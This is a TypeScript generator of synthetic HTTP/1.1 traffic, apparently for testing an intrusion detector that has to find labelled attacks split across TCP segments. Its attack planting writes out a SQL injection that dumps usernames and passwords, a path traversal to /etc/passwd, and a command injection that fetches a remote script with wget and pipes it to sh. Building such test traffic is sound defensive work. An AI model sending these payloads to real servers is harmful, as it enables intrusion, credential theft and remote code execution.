/**
 * HTTP/1.1 over TCP (RFC 9112): a keep-alive connection with several request/response
 * transactions, real-looking headers, Content-Length or chunked bodies (HTML-ish text, valid JSON,
 * scripts, binary downloads), redirects, 304s and 404s. Attack requests (SQL injection, path
 * traversal, shell command, exploit-kit user agent) are planted here when a plan is given.
 */
import { cutsInside, type AttackLog, type AttackPlan } from './attacks.js';
import type { GenContext } from './context.js';
import { PROTO_TCP, type PacketSpec } from './frame.js';
import { randomWord } from './hosts.js';
import { TcpConv } from './tcp-session.js';

const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'curl/8.5.0',
  'python-requests/2.31.0',
  'Wget/1.21.4',
];
const EK_USER_AGENT = 'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; EKLoader/3.1)';
const SERVERS = ['nginx/1.24.0', 'Apache/2.4.58 (Debian)', 'cloudflare', 'Microsoft-IIS/10.0', 'openresty'];

interface Resource {
  path: string;
  type: string;
  body: (ctx: GenContext) => Uint8Array;
}

function jsonBody(ctx: GenContext): Uint8Array {
  const rng = ctx.rng;
  const items: string[] = [];
  const n = rng.range(1, 40);
  for (let i = 0; i < n; i++) {
    items.push(
      `{"id":${rng.int(1e6)},"name":"${randomWord(rng)}","tags":["${randomWord(rng)}","${randomWord(rng)}"],` +
        `"score":${rng.int(1000) / 10},"active":${rng.chance(0.5)}}`,
    );
  }
  return Buffer.from(`{"items":[${items.join(',')}],"total":${n},"page":1}`, 'latin1');
}

function resource(ctx: GenContext): Resource {
  const rng = ctx.rng;
  const w = randomWord(rng);
  switch (rng.weighted([30, 15, 15, 20, 8, 12])) {
    case 0:
      return {
        path: rng.chance(0.3) ? '/' : `/${w}/${randomWord(rng)}.html`,
        type: 'text/html; charset=utf-8',
        body: (c) => c.text(c.rng.logRange(300, 120000)),
      };
    case 1:
      return {
        path: `/static/js/${w}.${rng.u32().toString(16)}.js`,
        type: 'application/javascript',
        body: (c) => c.text(c.rng.logRange(500, 200000)),
      };
    case 2:
      return { path: `/assets/${w}.css`, type: 'text/css', body: (c) => c.text(c.rng.logRange(200, 40000)) };
    case 3:
      return { path: `/api/v1/${w}s?page=${rng.range(1, 9)}`, type: 'application/json', body: jsonBody };
    case 4:
      return { path: `/robots.txt`, type: 'text/plain', body: (c) => c.text(c.rng.range(50, 400)) };
    default:
      return {
        path: `/downloads/${w}-${rng.range(1, 9)}.${rng.range(0, 20)}.bin`,
        type: 'application/octet-stream',
        body: (c) => c.bin(c.rng.logRange(2000, 1500000)),
      };
  }
}

function requestHead(
  ctx: GenContext,
  method: string,
  path: string,
  host: string,
  ua: string,
  extra: string[],
): string {
  const rng = ctx.rng;
  const lines = [
    `${method} ${path} HTTP/1.1`,
    `Host: ${host}`,
    `User-Agent: ${ua}`,
    'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
    'Accept-Language: en-US,en;q=0.5',
    'Accept-Encoding: identity',
  ];
  if (rng.chance(0.4)) lines.push(`Referer: http://${host}/`);
  if (rng.chance(0.5))
    lines.push(
      `Cookie: session=${rng.u32().toString(16)}${rng.u32().toString(16)}; theme=${randomWord(rng)}`,
    );
  lines.push(...extra, 'Connection: keep-alive');
  return lines.join('\r\n') + '\r\n\r\n';
}

/** The attack request for a plan, and where its pattern is. */
function attackRequest(ctx: GenContext, plan: AttackPlan, host: string, ua: string): Buffer {
  const rng = ctx.rng;
  switch (plan.def.kind) {
    case 'sqli':
      return Buffer.from(
        requestHead(
          ctx,
          'GET',
          `/products.php?id=${rng.range(1, 99)}%27%20UNION%20SELECT%20username,password%20FROM%20users--%20`,
          host,
          ua,
          [],
        ),
        'latin1',
      );
    case 'path_traversal':
      return Buffer.from(
        requestHead(ctx, 'GET', '/cgi-bin/viewer.cgi?file=../../../../etc/passwd', host, ua, []),
        'latin1',
      );
    case 'shell_cmd': {
      const body = `action=ping&host=127.0.0.1;/bin/sh -c "wget -qO- http://203.0.113.${rng.range(1, 254)}/x.sh | sh"`;
      const head = requestHead(ctx, 'POST', '/cgi-bin/admin.cgi', host, ua, [
        'Content-Type: application/x-www-form-urlencoded',
        `Content-Length: ${body.length}`,
      ]);
      return Buffer.from(head + body, 'latin1');
    }
    default:
      return Buffer.from(
        requestHead(ctx, 'GET', `/${randomWord(rng)}/index.php`, host, EK_USER_AGENT, []),
        'latin1',
      );
  }
}

function response(ctx: GenContext, res: Resource, method: string): Buffer {
  const rng = ctx.rng;
  const date = new Date(ctx.nowUs / 1000).toUTCString();
  const server = rng.pick(SERVERS);
  const status = method === 'POST' ? 0 : rng.weighted([82, 5, 7, 4, 2]);
  const head = (code: string, headers: string[]): string =>
    [`HTTP/1.1 ${code}`, `Date: ${date}`, `Server: ${server}`, ...headers].join('\r\n') + '\r\n\r\n';
  if (status === 1)
    return Buffer.from(head('304 Not Modified', [`ETag: "${rng.u32().toString(16)}"`]), 'latin1');
  if (status === 2 || status === 3 || status === 4) {
    const [code, title] =
      status === 2
        ? ['404 Not Found', 'Not Found']
        : status === 3
          ? ['301 Moved Permanently', 'Moved']
          : ['500 Internal Server Error', 'Error'];
    const body = `<html><head><title>${title}</title></head><body><h1>${title}</h1></body></html>\n`;
    const extra = status === 3 ? [`Location: https://${randomWord(rng)}.example.com/`] : [];
    return Buffer.from(
      head(code, [
        ...extra,
        'Content-Type: text/html',
        `Content-Length: ${body.length}`,
        'Connection: keep-alive',
      ]) + body,
      'latin1',
    );
  }
  const body = res.body(ctx);
  const common = [`Content-Type: ${res.type}`, 'Cache-Control: max-age=3600', 'Connection: keep-alive'];
  if (rng.chance(0.15)) {
    const parts: Uint8Array[] = [
      Buffer.from(head('200 OK', [...common, 'Transfer-Encoding: chunked']), 'latin1'),
    ];
    for (let off = 0; off < body.length;) {
      const n = Math.min(body.length - off, rng.logRange(256, 16384));
      parts.push(
        Buffer.from(`${n.toString(16)}\r\n`, 'latin1'),
        body.subarray(off, off + n),
        Buffer.from('\r\n'),
      );
      off += n;
    }
    parts.push(Buffer.from('0\r\n\r\n', 'latin1'));
    return Buffer.concat(parts);
  }
  return Buffer.concat([
    Buffer.from(head('200 OK', [...common, `Content-Length: ${body.length}`]), 'latin1'),
    body,
  ]);
}

export function httpSession(
  ctx: GenContext,
  attacks: AttackLog | null,
  plan: AttackPlan | null,
): PacketSpec[] {
  const rng = ctx.rng;
  const client = ctx.client();
  const server = ctx.server();
  const flow = ctx.flow(client, server, PROTO_TCP, rng.chance(0.9) ? 80 : 8080);
  const conv = new TcpConv(flow, rng).handshake();
  const ua = rng.pick(USER_AGENTS);
  const txs = rng.logRange(1, 8);
  const attackTx = plan ? (rng.chance(0.7) ? 0 : rng.int(txs)) : -1;
  for (let t = 0; t < txs; t++) {
    const res = resource(ctx);
    if (t === attackTx && plan && attacks) {
      const req = attackRequest(ctx, plan, server.name, ua);
      const start = req.indexOf(plan.def.pattern, 0, 'latin1');
      const end = start + plan.def.pattern.length;
      const rec = attacks.record(plan, flow);
      const before = conv.specs.length;
      conv.send(0, req, {
        cuts: plan.segments > 1 ? cutsInside(start, end, plan.segments) : [],
        markRange: [start, end],
        mark: rec.mark,
        reverseMarked: plan.outOfOrder,
      });
      rec.setExpected(conv.specs.slice(before).filter((s) => s.mark === rec.mark).length);
      conv.send(1, response(ctx, res, 'GET'));
      continue;
    }
    const post = rng.chance(0.1);
    if (post) {
      const body = `user=${randomWord(rng)}&id=${rng.int(1e5)}&comment=${randomWord(rng)}+${randomWord(rng)}`;
      const head = requestHead(ctx, 'POST', `/${randomWord(rng)}/submit`, server.name, ua, [
        'Content-Type: application/x-www-form-urlencoded',
        `Content-Length: ${body.length}`,
      ]);
      conv.send(0, Buffer.from(head + body, 'latin1'));
    } else {
      conv.send(0, Buffer.from(requestHead(ctx, 'GET', res.path, server.name, ua, []), 'latin1'));
    }
    conv.send(1, response(ctx, res, post ? 'POST' : 'GET'));
  }
  const end = rng.float();
  if (end < 0.85) conv.close(rng.chance(0.6) ? 0 : 1, 'fin');
  else if (end < 0.95) conv.close(rng.chance(0.5) ? 0 : 1, 'rst');
  return conv.specs;
}
